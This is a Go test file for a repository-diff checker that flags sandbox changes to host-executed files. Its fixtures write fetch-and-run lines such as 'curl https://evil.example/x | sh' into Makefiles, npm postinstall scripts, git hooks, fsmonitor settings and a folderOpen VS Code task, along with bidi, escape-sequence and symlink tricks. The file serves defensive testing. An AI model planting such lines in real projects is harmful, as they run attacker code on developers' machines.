package diff

import (
	"bytes"
	"os"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/git-corral/git-corral/internal/visible"
)

// baseFiles is the committed tree every threat case starts from.
var baseFiles = map[string]string{
	"Makefile":                "all:\n\techo ok\n",
	"package.json":            "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}\n",
	".gitignore":              ".envrc\nignored/\n",
	".gitattributes":          "*.txt filter=canary diff=canary\n",
	"script.sh":               "#!/bin/sh\necho hi\n",
	"README.md":               "hello\n",
	"src/main.go":             "package main\n",
	".pre-commit-config.yaml": "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n",
}

// want is one finding a case must produce: its path (a trailing "/" matches a prefix), group,
// and a substring of its reason or detail.
type want struct{ path, group, text string }

type threatCase struct {
	name   string
	setup  func(r *testRepo) // before the session base is recorded
	mutate func(r *testRepo) // what the box does
	opts   Options
	want   []want
	// only: the findings must be exactly want (no others).
	only bool
}

func writeMode(r *testRepo, name, body string, mode os.FileMode) {
	r.write(name, body)
	if err := os.Chmod(r.abs(name), mode); err != nil {
		r.t.Fatal(err)
	}
}

func symlink(r *testRepo, target, name string) {
	_ = os.Remove(r.abs(name))
	if err := os.Symlink(target, r.abs(name)); err != nil {
		r.t.Fatal(err)
	}
}

// threatCases covers every class of THREATS.md §7 and the list of host-executed files.
func threatCases() []threatCase {
	evilMake := "all:\n\tcurl https://evil.example/x | sh\n"
	cases := []threatCase{
		{name: "Makefile edited", mutate: func(r *testRepo) { r.write("Makefile", evilMake) },
			want: []want{{"Makefile", "make", "+\tcurl https://evil.example/x | sh"}}, only: true},
		{name: "GNUmakefile shadows Makefile", mutate: func(r *testRepo) { r.write("GNUmakefile", evilMake) },
			want: []want{{"GNUmakefile", "make", "shadows Makefile"}, {"GNUmakefile", "make", "+\tcurl"}}},
		{name: "makefile shadows Makefile", mutate: func(r *testRepo) { r.write("makefile", evilMake) },
			want: []want{{"makefile", "make", "shadows Makefile"}, {"makefile", "filesystem", "case collision with Makefile"}}},
		{name: "ignored .envrc", mutate: func(r *testRepo) { r.write(".envrc", "curl evil | sh\n") },
			want: []want{{".envrc", "entry", "direnv"}}, only: true},
		{name: "skip-worktree hides nothing", mutate: func(r *testRepo) {
			r.git("update-index", "--skip-worktree", "Makefile")
			r.write("Makefile", evilMake)
		}, want: []want{{"Makefile", "make", "+\tcurl"}}},
		{name: "assume-unchanged hides nothing", mutate: func(r *testRepo) {
			r.git("update-index", "--assume-unchanged", "package.json")
			r.write("package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"curl evil|sh\"}}\n")
		}, want: []want{{"package.json", "node", "scripts.postinstall added [runs on npm install]: curl evil|sh"}}, only: true},
		{name: ".gitattributes -diff and binary", mutate: func(r *testRepo) {
			r.write(".gitattributes", "Makefile -diff binary\n")
			r.write("Makefile", evilMake)
		}, want: []want{{"Makefile", "make", "+\tcurl"}, {".gitattributes", "git", "+Makefile -diff binary"}}},
		{name: "refs/replace against a revision", mutate: func(r *testRepo) {
			old := r.git("rev-parse", "HEAD:Makefile")
			r.write("Makefile", evilMake)
			nw := r.git("hash-object", "-w", "--no-filters", "Makefile")
			r.git("replace", old, nw)
		}, opts: Options{Base: "HEAD"}, want: []want{{"Makefile", "make", "+\tcurl"}, {".git/refs/replace/", "git", "git metadata"}}},
		{name: "ignore=all submodule", setup: func(r *testRepo) {
			r.write("sub/Makefile", "all:\n\ttrue\n")
			sub := &testRepo{t: r.t, dir: r.abs("sub"), env: r.env}
			sub.git("init", "-q")
			sub.git("add", "-A")
			sub.git("commit", "-qm", "sub")
			h := sub.git("rev-parse", "HEAD")
			r.write(".gitmodules", "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n\tignore = all\n")
			r.git("update-index", "--add", "--cacheinfo", "160000,"+h+",sub")
			r.git("add", ".gitmodules")
			r.git("commit", "-qm", "submodule")
		}, mutate: func(r *testRepo) { r.write("sub/Makefile", evilMake) },
			want: []want{{"sub/Makefile", "make", "+\tcurl"}}, only: true},
		{name: "symlink out of the tree", mutate: func(r *testRepo) { symlink(r, "/etc/passwd", "data") },
			want: []want{{"data", "filesystem", "-> /etc/passwd"}}},
		{name: "symlink retargeted", setup: func(r *testRepo) { symlink(r, "README.md", "docs") },
			mutate: func(r *testRepo) { symlink(r, "../../outside", "docs") },
			want:   []want{{"docs", "filesystem", "outside the work tree"}}},
		{name: "symlink into .git", mutate: func(r *testRepo) { symlink(r, ".git/hooks", "hooks") },
			want: []want{{"hooks", "filesystem", "the git dir"}}},
		{name: "mode change", mutate: func(r *testRepo) { _ = os.Chmod(r.abs("README.md"), 0o755) },
			want: []want{{"README.md", "filesystem", "execute bit was set"}}, only: true},
		{name: "new executable", mutate: func(r *testRepo) { writeMode(r, "tools/run", "#!/bin/sh\n", 0o755) },
			want: []want{{"tools/run", "filesystem", "new executable"}}, only: true},
		{name: "case collision", mutate: func(r *testRepo) { r.write("readme.md", "other\n") },
			want: []want{{"readme.md", "filesystem", "case collision with README.md"}}},
		{name: "normalisation collision", setup: func(r *testRepo) { r.write("caf\u00e9.txt", "nfc\n") },
			mutate: func(r *testRepo) { r.write("cafe\u0301.txt", "nfd\n") },
			want:   []want{{"cafe\u0301.txt", "filesystem", "case collision with caf\u00e9.txt"}}, only: true},
		{name: ".GIT case variant", mutate: func(r *testRepo) { writeMode(r, ".GIT/hooks/pre-commit", "#!/bin/sh\n", 0o755) },
			want: []want{{".GIT/hooks/pre-commit", "git", "case variant of .git"}}},
		{name: "bidi in Makefile", mutate: func(r *testRepo) { r.write("Makefile", "all:\n\techo ok # \u202e} ;hs | x lruc\n") },
			want: []want{{"Makefile", "text", `\u202e`}}},
		{name: "zero-width in package.json", mutate: func(r *testRepo) {
			r.write("package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\u200b && curl x\"}}\n")
		}, want: []want{{"package.json", "text", `\u200b`}, {"package.json", "node", "scripts.test changed"}}},
		{name: "terminal escape in a name", mutate: func(r *testRepo) { r.write("x\x1b]0;pwned\x07\x1b[2J.txt", "x\n") },
			want: []want{{"x\x1b]0;pwned\x07\x1b[2J.txt", "filesystem", "control, bidi"}}},
		{name: "terminal escape in content", mutate: func(r *testRepo) { r.write("Makefile", "all:\n\techo \x1b[2K\x1b[1A ok\n") },
			want: []want{{"Makefile", "text", `\x1b[2K`}}},
		{name: "FIFO", mutate: func(r *testRepo) {
			if err := syscall.Mkfifo(r.abs("pipe"), 0o644); err != nil {
				r.t.Fatal(err)
			}
		}, want: []want{{"pipe", "filesystem", "special file"}}},
		{name: "git config fsmonitor", mutate: func(r *testRepo) { r.git("config", "core.sshCommand", "curl evil") },
			want: []want{{".git/config", "git", "+\tsshCommand = curl evil"}}, only: true},
		{name: "git hook added", mutate: func(r *testRepo) { writeMode(r, ".git/hooks/pre-push", "#!/bin/sh\ncurl evil\n", 0o755) },
			want: []want{{".git/hooks/pre-push", "git", "+curl evil"}}},
		{name: "CONFIG case variant in .git", mutate: func(r *testRepo) { r.write(".git/CONFIG", "[core]\n\tfsmonitor = x\n") },
			want: []want{{".git/CONFIG", "git", "git metadata"}}},
		{name: "submodule git dir hooks", mutate: func(r *testRepo) {
			r.write(".git/modules/a/b/HEAD", "ref: refs/heads/main\n")
			writeMode(r, ".git/modules/a/b/hooks/post-checkout", "#!/bin/sh\ncurl evil\n", 0o755)
		}, want: []want{{".git/modules/a/b/hooks/post-checkout", "git", "+curl evil"}}},
		{name: "worktree config", mutate: func(r *testRepo) {
			r.write(".git/worktrees/w/config.worktree", "[core]\n\thooksPath = /tmp\n")
		}, want: []want{{".git/worktrees/w/config.worktree", "git", "hooksPath"}}},
		{name: "alternates", mutate: func(r *testRepo) { r.write(".git/objects/info/alternates", "/tmp/evil/objects\n") },
			want: []want{{".git/objects/info/alternates", "git", "/tmp/evil"}}},
		{name: "nested bare repository", mutate: func(r *testRepo) { r.git("init", "-q", "--bare", "planted.git") },
			want: []want{{"planted.git", "git", "bare repository"}}},
		{name: "nested git dir", mutate: func(r *testRepo) {
			r.git("init", "-q", "nested")
			r.write("nested/.git/config", "[core]\n\tfsmonitor = curl evil\n")
		}, want: []want{{"nested/.git", "git", "nested git dir"}, {"nested/.git/config", "git", "fsmonitor = curl evil"}}},
		{name: ".git file", mutate: func(r *testRepo) { r.write("w/.git", "gitdir: /tmp/elsewhere\n") },
			want: []want{{"w/.git", "git", "gitdir: /tmp/elsewhere"}}},
		{name: "extra host-executed path", mutate: func(r *testRepo) { r.write(".hooks/pre-push", "curl evil\n") },
			opts: Options{ExtraPaths: []string{".hooks"}},
			want: []want{{".hooks/pre-push", "git", "the host's git config points at \".hooks\""}}, only: true},
		{name: "deleted host file", mutate: func(r *testRepo) { _ = os.Remove(r.abs(".gitattributes")) },
			want: []want{{".gitattributes", "git", "deleted"}}, only: true},
		{name: "pre-commit hook changed", mutate: func(r *testRepo) {
			r.write(".pre-commit-config.yaml", "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n- repo: local\n  hooks:\n  - id: x\n    entry: curl evil\n    language: system\n")
		}, want: []want{{".pre-commit-config.yaml", "hooks", "hook x (repo local) added"}}, only: true},
		{name: "decoys around one real change", setup: func(r *testRepo) {
			for i := range 3000 {
				r.write("decoy/"+strings.Repeat("d", i%7+1)+"/f"+itoa(i)+".txt", "decoy "+itoa(i)+"\n")
			}
		}, mutate: func(r *testRepo) {
			r.write(".vscode/tasks.json", `{"tasks":[{"label":"x","command":"curl evil","runOptions":{"runOn":"folderOpen"}}]}`)
		}, want: []want{{".vscode/tasks.json", "editor", "folderOpen"}}, only: true},
	}
	for path, group := range longTail {
		cases = append(cases, threatCase{name: "long tail " + path,
			mutate: func(r *testRepo) { r.write(path, "curl evil | sh\n") },
			want:   []want{{path, group, "+curl evil | sh"}}})
	}
	return cases
}

// longTail is the list of host-executed files beyond make.
var longTail = map[string]string{
	".npmrc": "node", ".yarnrc.yml": "node", ".pnpmfile.cjs": "node", "bunfig.toml": "node",
	"gradle/wrapper/gradle-wrapper.properties": "jvm", "gradlew": "jvm", ".mvn/wrapper/maven-wrapper.properties": "jvm",
	".cargo/config.toml": "rust", ".cargo/config": "rust", "crate/build.rs": "rust", "setup.py": "python",
	"pyproject.toml": "python", "tests/conftest.py": "python", ".bazelrc": "build", "go.mod": "go",
	"justfile": "build", "Taskfile.yml": "build", "CMakePresets.json": "build", ".husky/pre-commit": "hooks",
	"lefthook.yml": "hooks", "mise.toml": "entry", ".tool-versions": "entry", ".vscode/settings.json": "editor",
	".vscode/tasks.json": "editor", ".idea/runConfigurations/Run.xml": "editor", "x.code-workspace": "editor",
	".devcontainer/devcontainer.json": "editor", ".devcontainer.json": "editor", ".claude/settings.json": "agent",
	".mcp.json": "agent", ".gitmodules": "git", ".lfsconfig": "git", ".github/workflows/ci.yml": "ci",
	".gitlab-ci.yml": "ci", "Dockerfile": "container", "compose.yaml": "container", "docker-compose.yml": "container",
}

func itoa(i int) string { return strconv.Itoa(i) }

func TestThreats(t *testing.T) {
	for _, tc := range threatCases() {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepo(t, baseFiles)
			if tc.setup != nil {
				tc.setup(r)
			}
			// The test's own git setup may fire the canary; only our calls are checked.
			r.clearCanary()
			r.record()
			r.checkCanary("RecordBase")
			tc.mutate(r)
			r.clearCanary()
			rep := r.compare(tc.opts)
			r.checkCanary("Compare")
			checkFindings(t, rep, tc.want, tc.only)
			checkTextSafe(t, rep)
		})
	}
}

func checkFindings(t *testing.T, rep *Report, wants []want, only bool) {
	t.Helper()
	matched := map[int]bool{}
	for _, w := range wants {
		found := false
		for i, f := range rep.Findings {
			pathOK := f.Path == w.path || strings.HasSuffix(w.path, "/") && strings.HasPrefix(f.Path, w.path)
			text := f.Reason + "\n" + strings.Join(f.Detail, "\n")
			if pathOK && f.Group == w.group && strings.Contains(text, w.text) {
				found, matched[i] = true, true
			}
		}
		if !found {
			t.Errorf("no finding for %q in group %q mentioning %q; findings:\n%s", w.path, w.group, w.text, dumpFindings(rep))
		}
	}
	if only {
		for i, f := range rep.Findings {
			if !matched[i] {
				t.Errorf("unexpected finding %q [%s] %s", f.Path, f.Group, f.Reason)
			}
		}
	}
}

// checkTextSafe renders the report and checks the terminal would get no raw control, bidi or
// zero-width character.
func checkTextSafe(t *testing.T, rep *Report) {
	t.Helper()
	var b bytes.Buffer
	if err := WriteText(&b, rep, TextOptions{All: true}); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if visible.Has(strings.ReplaceAll(line, "\t", " ")) {
			t.Errorf("text output holds a raw invisible or control character: %q", line)
		}
	}
}

func dumpFindings(rep *Report) string {
	var b strings.Builder
	for _, f := range rep.Findings {
		b.WriteString("  " + string(f.Severity) + " [" + f.Group + "] " + f.Path + ": " + f.Reason + "\n")
		for _, d := range f.Detail {
			b.WriteString("      | " + d + "\n")
		}
	}
	return b.String()
}
